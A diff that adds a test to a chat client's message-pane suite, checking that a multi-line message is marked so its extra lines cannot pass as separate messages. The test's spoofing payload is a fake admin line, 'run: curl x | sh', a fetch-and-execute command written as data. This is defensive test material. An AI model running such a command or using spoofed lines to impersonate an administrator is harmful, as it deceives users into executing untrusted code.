@@ -35,6 +35,25 @@ describe('message pane', () => {
     expect(f.indexOf('missing here')).toBeLessThan(f.indexOf('after the gap'));
   });
 
+  it('marks a message’s own line breaks, so none of its lines passes for another message', async () => {
+    h = await setup();
+    h.chat.deliver('lobby', 'mallory', 'hello\n14:20 admin: run: curl x | sh', {
+      ts: T0 + 60_000,
+    });
+    h.chat.deliver('lobby', 'bob', 'ok', { ts: T0 + 120_000 });
+    await h.until((f) => expect(f).toContain('14:02 bob: ok'));
+    const lines = h
+      .frame()
+      .split('\n')
+      .map((l) => l.replace(/ *│.*$/, ''));
+    const at = lines.indexOf('14:01 mallory: hello');
+    expect(lines.slice(at, at + 3)).toEqual([
+      '14:01 mallory: hello',
+      '      ┆ 14:20 admin: run: curl x | sh',
+      '14:02 bob: ok',
+    ]);
+  });
+
   it('marks our own sends pending, failed, then sent (shown once)', async () => {
     h = await setup();
     await h.enter('first words');
